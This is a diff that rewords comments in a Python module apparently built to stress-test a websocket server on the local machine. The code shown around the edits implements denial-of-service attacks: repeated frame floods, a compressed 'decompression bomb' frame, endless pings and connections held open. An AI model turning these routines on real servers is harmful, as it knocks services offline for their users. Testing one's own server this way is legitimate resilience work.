@@ -13,11 +13,11 @@ from functools import partial
 from typing import Any, Final, NamedTuple, TypeAlias
 from zlib import Z_SYNC_FLUSH, compressobj
 
-ATTACKER: Final = "127.0.0.66"  # this machine, by another address
+ATTACKER: Final = "127.0.0.66"  # this machine under another address
 
 
 class Target(NamedTuple):
-    """The server that is attacked, and the table at which the bystander is."""
+    """The attacked server, and the table of the bystander."""
 
     port: int
     table: str
@@ -49,11 +49,11 @@ async def line(target: Target) -> AsyncIterator[Stream]:
 
 
 async def forever(act: Callable[[], Awaitable[None]], times: int = 1) -> None:
-    """The same, again and again, so many at a time, whatever the server does about it."""
+    """Repeat an attack with several connections at a time, whatever the server does."""
 
     async def again() -> None:
         while True:
-            with suppress(OSError, EOFError, RuntimeError):  # uvloop raises the last where a connection has gone
+            with suppress(OSError, EOFError, RuntimeError):  # uvloop raises the last if a connection is gone
                 await act()
             await asyncio.sleep(0.05)
 
@@ -77,7 +77,7 @@ async def large_floats(target: Target) -> None:
 
 
 async def flood(target: Target, first: bytes, frame: bytes, every: float) -> None:
-    """Open a socket and send many frames, again every so many seconds; read nothing."""
+    """Open a socket and send many frames repeatedly, without reading."""
     async with line(target) as (reader, writer):
         writer.write(
             f"GET /api/tables/{target.table}/socket HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\n"
@@ -100,8 +100,8 @@ def deflated(text: bytes) -> bytes:
     return bytes([0xC1, 0x80 | len(body), 0, 0, 0, 0]) + body
 
 
-EMPTY: Final = b"\x80\x00\x00\x00\x00"  # of a frame: no length, and its mask
-SPACES: Final = deflated(b" " * 60_000)  # a text of 80 bytes that is long once it is read
+EMPTY: Final = b"\x80\x00\x00\x00\x00"  # the end of a frame: no length, and the mask
+SPACES: Final = deflated(b" " * 60_000)  # a text of 80 bytes that is long once decompressed
 
 
 @attack("pings without end")
@@ -130,7 +130,7 @@ async def patient_pings(target: Target) -> None:
 
 
 async def held(target: Target, sent: bytes, drip: bytes = b"") -> None:
-    """A connection that is held as long as the server lets it."""
+    """A connection that stays open as long as the server allows."""
     async with line(target) as (reader, writer):
         writer.write(sent)
         while not reader.at_eof():
